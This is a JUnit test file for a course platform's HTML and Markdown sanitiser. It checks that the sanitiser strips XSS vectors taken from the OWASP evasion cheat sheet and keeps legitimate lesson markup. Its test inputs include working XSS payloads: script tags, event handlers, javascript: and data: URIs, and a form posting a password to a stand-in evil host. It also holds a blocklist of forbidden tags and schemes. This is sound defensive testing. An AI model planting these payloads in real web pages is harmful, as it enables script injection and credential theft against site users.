package org.capacityacademy.courseformat.html;

import org.commonmark.parser.Parser;
import org.commonmark.renderer.html.HtmlRenderer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** The allow-list policy for authored HTML, against the attacks of the OWASP XSS filter evasion cheat sheet. */
class AuthoredHtmlTest {

    /** Each of these must come out with no script, no handler, no other scheme, no frame, form, style or image. */
    @ParameterizedTest
    @ValueSource(strings = {
            "<script>alert('XSS')</script>",
            "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
            "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
            "<img src=x onerror=alert('XSS')>",
            "<IMG SRC=\"javascript:alert('XSS');\">",
            "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
            "<a href=\"javascript:alert('XSS')\">click</a>",
            "<a href=\"JaVaScRiPt:alert('XSS')\">click</a>",
            "<a href=\"jav&#x09;ascript:alert('XSS');\">click</a>",
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">click</a>",
            "<a href=\" &#14;  javascript:alert('XSS');\">click</a>",
            "<a href=\"vbscript:msgbox('XSS')\">click</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
            "<iframe src=\"https://evil.example/\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<frameset><frame src=\"javascript:alert('XSS');\"></frameset>",
            "<p style=\"background-image: url(javascript:alert('XSS'))\">styled</p>",
            "<div style=\"width: expression(alert('XSS'));\">styled</div>",
            "<style>@import 'https://xss.example/xss.css'; body { display: none }</style>",
            "<link rel=\"stylesheet\" href=\"https://xss.example/xss.css\">",
            "<form action=\"https://evil.example/steal\"><input name=\"password\" type=\"password\"><button>Go</button></form>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<object data=\"https://evil.example/x.swf\"></object>",
            "<embed src=\"https://evil.example/x.swf\">",
            "<base href=\"javascript:alert('XSS');//\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('XSS');\">",
            "<body onload=alert('XSS')>",
            "<div onmouseover=\"alert('XSS')\">hover</div>",
            "<details open ontoggle=alert(1)>",
            "<input autofocus onfocus=alert(1)>",
            "<video><source onerror=\"alert(1)\"></video>",
            "\"><script>alert(1)</script>",
            "<a href=\"https://example.org\" onclick=\"alert(1)\" target=\"_blank\">site</a>",
            "<template><script>alert(1)</script></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    })
    void removesEveryAttack(String attack) {
        String clean = AuthoredHtml.sanitise(attack).toLowerCase();
        for (String forbidden : List.of("<script", "<img", "<iframe", "<frame", "<style", "<link", "<form", "<input",
                "<button", "<svg", "<math", "<object", "<embed", "<base", "<meta", "<body", "<template", "<video",
                "<source", "<details", "javascript:", "vbscript:", "data:", "style=", "onerror", "onload", "onclick",
                "onmouseover", "ontoggle", "onfocus", "target=", "expression(")) {
            assertFalse(clean.contains(forbidden), () -> attack + " left " + forbidden + " in: " + clean);
        }
    }

    @Test
    void removesTheSameAttacksWrittenInMarkdown() {
        String html = AuthoredHtml.fromMarkdown("""
                Read [this](javascript:alert(1)) and ![chart](https://evil.example/track.png).

                <script>alert(1)</script>

                <p onclick="alert(1)">Hello <iframe src="https://evil.example"></iframe></p>
                """).toLowerCase();
        assertFalse(html.contains("javascript:") || html.contains("<img") || html.contains("<script")
                || html.contains("onclick") || html.contains("<iframe"), html);
        assertTrue(html.replaceAll("<[^>]*>", "").contains("read this and"), html);
        assertTrue(html.contains("<p>hello </p>"), html);
    }

    @Test
    void keepsTheMarkupALessonNeeds() {
        String html = AuthoredHtml.sanitise("""
                <h1>Title</h1><h3>Part</h3><p>A <strong>strong</strong>, <em>light</em> and
                <abbr title="information and communications technologies">ICT</abbr> point.</p>
                <ol start="3"><li>one</li></ol><ul><li>two</li></ul>
                <blockquote><p>quoted</p></blockquote><pre><code class="language-text">code</code></pre>
                <table><caption>Votes</caption><thead><tr><th scope="col">State</th></tr></thead>
                <tbody><tr><td colspan="2">Kenya</td></tr></tbody></table>
                <p lang="ar" dir="rtl">تقرير</p>""");
        for (String kept : List.of("<h2>Title</h2>", "<h3>Part</h3>", "<strong>strong</strong>", "<em>light</em>",
                "<abbr title=\"information and communications technologies\">ICT</abbr>", "<ol start=\"3\"><li>one</li></ol>",
                "<ul><li>two</li></ul>", "<blockquote><p>quoted</p></blockquote>",
                "<pre><code class=\"language-text\">code</code></pre>", "<caption>Votes</caption>",
                "<th scope=\"col\">State</th>", "<td colspan=\"2\">Kenya</td>", "<p lang=\"ar\" dir=\"rtl\">تقرير</p>")) {
            assertTrue(html.contains(kept), () -> "lost " + kept + " in: " + html);
        }
    }

    @Test
    void keepsWebMailAndRelativeLinksWithNofollowNoopener() {
        String html = AuthoredHtml.sanitise("<a href=\"https://www.un.org/disarmament/\">UNODA</a> "
                + "<a href=\"mailto:course@example.org\">write</a> <a href=\"/catalog/courses.xhtml\">courses</a> "
                + "<a href=\"#para-26\">para. 26</a>");
        assertTrue(html.contains("href=\"https://www.un.org/disarmament/\""), html);
        assertTrue(html.contains("href=\"mailto:course&#64;example.org\""), html);
        assertTrue(html.contains("href=\"/catalog/courses.xhtml\""), html);
        assertTrue(html.contains("href=\"#para-26\""), html);
        assertEquals(4, html.split("rel=\"nofollow noopener\"", -1).length - 1, html);
    }

    @Test
    void writesFullWidthPunctuationAsCharactersButNotFullWidthMarkup() {
        String html = AuthoredHtml.sanitise("<p>报告，第19段（摘要）：＜script＞</p>");
        assertEquals("<p>报告，第19段（摘要）：&#xff1c;script&#xff1e;</p>", html);
    }

    @Test
    void cleansWhatIsShownToo() {
        String stored = "<p>Old row</p><script>alert(1)</script>";
        assertEquals("<p>Old row</p>", AuthoredHtml.shown(stored));
        assertEquals("<p>Old row</p>", AuthoredHtml.shown(stored), "the second time from memory");
    }

    @Test
    void isStableWhenAppliedAgain() {
        String once = AuthoredHtml.fromMarkdown("# T\n\nA *b* [c](https://example.org) <abbr title=\"x\">X</abbr> & \"q\"");
        assertEquals(once, AuthoredHtml.sanitise(once));
    }

    @Test
    void leavesTheShippedCourseUnchangedInMeaning() throws IOException {
        HtmlRenderer escaping = HtmlRenderer.builder().escapeHtml(true).sanitizeUrls(true).build();
        Parser parser = Parser.builder().build();
        Path modules = Path.of("courses/gge-2013/modules");
        int sections = 0;
        try (Stream<Path> files = Files.walk(modules)) {
            for (Path file : files.filter(f -> f.toString().endsWith(".md")).sorted().toList()) {
                String text = Files.readString(file);
                String body = text.substring(text.indexOf("\n---", 4) + 4);
                for (String markdown : body.split("(?m)^<!-- [a-z]{2} -->$")) {
                    if (markdown.isBlank()) {
                        continue;
                    }
                    String before = escaping.render(parser.parse(markdown));
                    String after = AuthoredHtml.fromMarkdown(markdown);
                    assertEquals(decoded(before), decoded(after), file.toString());
                    sections++;
                }
            }
        }
        assertEquals(17 * 6, sections, "17 lessons in six languages");
    }

    private static final Pattern ENTITY = Pattern.compile("&#(x?)([0-9a-f]+);");

    /** The same text whatever characters the renderer chose to escape. */
    private static String decoded(String html) {
        Matcher entity = ENTITY.matcher(html.replace("&quot;", "\"").replace("&amp;", "&#38;")
                .replace("&lt;", "&#60;").replace("&gt;", "&#62;"));
        StringBuilder text = new StringBuilder();
        while (entity.find()) {
            entity.appendReplacement(text, Matcher.quoteReplacement(Character.toString(Integer.parseInt(entity.group(2), entity.group(1).isEmpty() ? 10 : 16))));
        }
        return entity.appendTail(text).toString().replace("<br />", "<br>").replaceAll(">\\s+<", "><").replaceAll("\\s+", " ").strip();
    }
}
